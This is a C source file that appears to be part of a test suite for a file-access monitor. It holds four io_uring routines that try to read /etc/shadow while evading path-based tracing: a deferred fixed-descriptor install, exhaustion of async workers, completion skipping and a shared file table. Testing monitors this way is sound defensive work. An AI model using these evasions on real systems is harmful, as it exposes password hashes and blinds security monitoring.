/* Reading a file through io_uring in ways that take its requests, or its files, elsewhere. */
#define _GNU_SOURCE
#include "evasion.h"
#include <errno.h>
#include <fcntl.h>
#include <linux/time_types.h>
#include <signal.h>
#include <stdio.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define FIXED_FD_INSTALL 54
#define MORE_THAN_ARE_FOLLOWED 300

static struct io_uring_sqe opening(const char *path, unsigned place, unsigned char flags)
{
	return (struct io_uring_sqe){.opcode = IORING_OP_OPENAT, .fd = AT_FDCWD, .addr = (unsigned long)path,
				     .file_index = place, .flags = flags};
}

static void make_table(void)
{
	int none = -1;

	must("io_uring_register", syscall(SYS_io_uring_register, ring_descriptor(), IORING_REGISTER_FILES, &none, 1));
}

/* It is opened into the ring's own table, and gets a descriptor later, by a request that opens nothing. */
static int read_ring_installed(int argc, char **argv)
{
	struct io_uring_sqe first = opening(TARGET, 1, 0);
	struct io_uring_sqe second = {.opcode = FIXED_FD_INSTALL, .fd = 0, .flags = IOSQE_FIXED_FILE};
	int fd;

	remember_target();
	make_table();
	must("open", ring_call(&first));
	fd = ring_call(&second);
	if (fd < 0 && errno == EINVAL)
		cannot("IORING_OP_FIXED_FD_INSTALL");
	return must_be_target(fd);
}

static void give_up(int signal)
{
	errno = EAGAIN;
	cannot("a file system whose paths are found in memory");
}

/* A pipe without writers is opened so often that no more requests can be followed; then a link to the file. Its path is
 * in the kernel's memory, and the link was read since it was made, so no kernel thread is needed, of which none is
 * left. */
static int read_ring_crowded(int argc, char **argv)
{
	struct io_uring_sqe waiting = opening("pipe", 0, IOSQE_ASYNC), entry = opening("link", 0, 0);
	struct stat status;

	remember_target();
	must("mkfifo", mkfifo("pipe", 0600));
	must("link", symlink("/etc//shadow", "link"));
	usleep(20000);
	must("link", stat("link", &status));
	for (int i = 0; i < MORE_THAN_ARE_FOLLOWED; i++)
		silent_ring_call(&waiting);
	signal(SIGALRM, give_up);
	alarm(10);
	return must_be_target(ring_call(&entry));
}

#define SILENT_ONES_LOOKED_FOR 4

/* So many wait for a pipe already that no more are looked for in this process. */
static int read_ring_silent_crowded(int argc, char **argv)
{
	struct io_uring_sqe waiting = opening("pipe", 0, IOSQE_ASYNC | IOSQE_CQE_SKIP_SUCCESS);
	struct io_uring_sqe entry = opening("link", 1, IOSQE_CQE_SKIP_SUCCESS);
	char byte;
	struct io_uring_sqe reading = {.opcode = IORING_OP_READ, .flags = IOSQE_FIXED_FILE, .addr = (unsigned long)&byte,
				       .len = 1};
	struct stat status;
	int got;

	must("mkfifo", mkfifo("pipe", 0600));
	must("link", symlink("/etc//shadow", "link"));
	usleep(20000);
	must("link", stat("link", &status));
	make_table();
	for (int i = 0; i < SILENT_ONES_LOOKED_FOR; i++)
		silent_ring_call(&waiting);
	silent_ring_call(&entry);
	do
		got = ring_call(&reading);
	while (got < 0 && errno == EBADF && usleep(1000) == 0);
	return must("read", got) != 1;
}

static void ask_for_another(void *unused)
{
	struct __kernel_timespec while_ = {.tv_nsec = 200000000};
	struct io_uring_sqe entries[] = {
		{.opcode = IORING_OP_TIMEOUT, .addr = (unsigned long)&while_, .len = 1,
		 .timeout_flags = IORING_TIMEOUT_ETIME_SUCCESS, .flags = IOSQE_IO_LINK | IOSQE_CQE_SKIP_SUCCESS},
		opening("link", 1, IOSQE_CQE_SKIP_SUCCESS),
	};

	silent_ring_calls(entries, 2);
}

/* A child opens a link to it after a while, without a completion, and does nothing more; this process reads it from the
 * table that both share. */
static int read_ring_shared(int argc, char **argv)
{
	char byte;
	struct io_uring_sqe reading = {.opcode = IORING_OP_READ, .flags = IOSQE_FIXED_FILE, .addr = (unsigned long)&byte,
				       .len = 1};
	int got;

	must("link", symlink("/etc//shadow", "link"));
	make_table();
	beside(ask_for_another, NULL);
	usleep(400000);
	do
		got = ring_call(&reading);
	while (got < 0 && errno == EBADF && usleep(1000) == 0);
	return must("read", got) != 1;
}

const struct command read_ring_commands[] = {
	{"read-ring-installed", 0, "", read_ring_installed},
	{"read-ring-crowded", 0, "", read_ring_crowded},
	{"read-ring-silent-crowded", 0, "", read_ring_silent_crowded},
	{"read-ring-shared", 0, "", read_ring_shared},
	{0},
};
